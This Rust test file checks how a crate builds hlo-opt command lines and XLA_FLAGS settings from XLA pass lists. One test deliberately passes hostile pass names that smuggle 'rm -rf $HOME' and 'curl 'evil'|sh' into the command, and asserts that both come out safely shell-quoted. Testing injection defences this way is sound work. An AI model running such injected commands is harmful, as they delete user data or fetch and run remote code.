//! Orders as commands for XLA's own tool.

use xla_gym_profile::{Commands, Finish, Profile};
use xla_gym_xla_profile::{NORMALIZED, NORMALIZING, Xla};

const EMITTED: &str = "emitted";

fn names(passes: &[&str]) -> Vec<String> {
    passes.iter().map(|&pass| pass.to_owned()).collect()
}

fn commands(start: &str, passes: &[&str], disabled: &[&str]) -> Commands {
    let finish = Finish { disabled: names(disabled), ..Finish::default() };
    Xla::default().commands(start, &names(passes), &finish)
}

/// The command that runs the passes.
fn line(commands: &Commands) -> &str {
    &commands.lines[0].1
}

/// What to set for the compilation of the result, if anything.
fn flags(commands: &Commands) -> Option<&str> {
    commands.lines.get(1).map(|(_, line)| line.as_str())
}

#[test]
fn the_command_runs_the_passes_in_their_order() {
    let plain = commands(EMITTED, &["dce", "algsimp", "dce"], &["cse"]);
    assert_eq!(line(&plain), "hlo-opt --platform=CPU --passes=dce,algsimp,dce FILE.hlo");
    assert_eq!(plain.approximated, names(&[]));

    let passes =
        ["call-inliner:single-call-site", "algsimp:dot-strength", "cse", "algsimp:dot-strength"];
    let normalized = commands(NORMALIZED, &passes, &["cse"]);
    let expected = format!(
        "hlo-opt --platform=CPU --passes={},call-inliner,algsimp,cse,algsimp FILE.hlo",
        NORMALIZING.join(",")
    );
    assert_eq!(line(&normalized), expected);
    let approximated = names(&["call-inliner:single-call-site", "algsimp:dot-strength"]);
    assert_eq!(normalized.approximated, approximated);
}

#[test]
fn without_passes_the_command_runs_the_pipeline_less_what_is_disabled() {
    let expected = "hlo-opt --platform=CPU --xla_disable_hlo_passes=cse FILE.hlo";
    assert_eq!(line(&commands(EMITTED, &[], &["cse"])), expected);
    assert_eq!(line(&commands(EMITTED, &[], &[])), "hlo-opt --platform=CPU FILE.hlo");
}

#[test]
fn a_pass_of_evil_name_stays_a_name_in_the_shell() {
    let evil = commands(EMITTED, &["dce'; rm -rf $HOME #"], &[]);
    let expected = r"hlo-opt --platform=CPU --passes='dce'\''; rm -rf $HOME #' FILE.hlo";
    assert_eq!(line(&evil), expected);
    assert_eq!(flags(&evil), None);

    let usual = commands(EMITTED, &[], &["cse"]);
    assert_eq!(flags(&usual), Some("XLA_FLAGS=--xla_disable_hlo_passes=cse"));
    let evil = commands(EMITTED, &[], &["cse", "x;curl 'evil'|sh"]);
    let expected = r"XLA_FLAGS=--xla_disable_hlo_passes='cse,x;curl '\''evil'\''|sh'";
    assert_eq!(flags(&evil), Some(expected));
}
